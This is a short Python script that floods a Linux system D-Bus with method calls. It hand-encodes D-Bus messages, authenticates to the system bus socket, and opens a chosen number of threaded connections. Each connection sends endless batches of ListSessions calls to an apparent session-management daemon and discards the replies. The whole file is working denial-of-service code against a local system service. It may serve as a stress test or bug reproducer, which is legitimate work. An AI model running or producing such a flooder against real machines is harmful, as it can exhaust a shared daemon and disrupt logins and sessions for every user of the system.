"""Fills the system bus with calls to the daemon over many connections at once, without waiting for the answers. flood.py CONNECTIONS"""

import os
import socket
import struct
import sys
import threading


def padded(data, to):
    return data + bytes(-len(data) % to)


def call(serial, path, interface, member, destination):
    fields = b""
    for code, kind, value in ((1, b"o", path), (2, b"s", interface), (3, b"s", member), (6, b"s", destination)):
        fields = padded(fields, 8) + bytes([code, 1]) + kind + b"\0"
        fields = padded(fields, 4) + struct.pack("<I", len(value)) + value.encode() + b"\0"
    return padded(struct.pack("<4B3I", ord("l"), 1, 0, 1, 0, serial, len(fields)) + fields, 8)


def swallow(bus):
    while bus.recv(65536):
        pass


def fill():
    bus = socket.socket(socket.AF_UNIX)
    bus.connect("/run/dbus/system_bus_socket")
    bus.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
    bus.recv(256)
    bus.sendall(b"BEGIN\r\n" + call(1, "/org/freedesktop/DBus", "org.freedesktop.DBus", "Hello", "org.freedesktop.DBus"))
    threading.Thread(target=swallow, args=(bus,), daemon=True).start()
    manager = ("/org/authflow/sessiond1", "org.authflow.sessiond1.Manager", "ListSessions", "org.authflow.sessiond1")
    some = b"".join(call(serial, *manager) for serial in range(2, 52))
    while True:
        bus.sendall(some)


threads = [threading.Thread(target=fill) for _ in range(int(sys.argv[1]))]
for thread in threads:
    thread.start()
print("filling", flush=True)
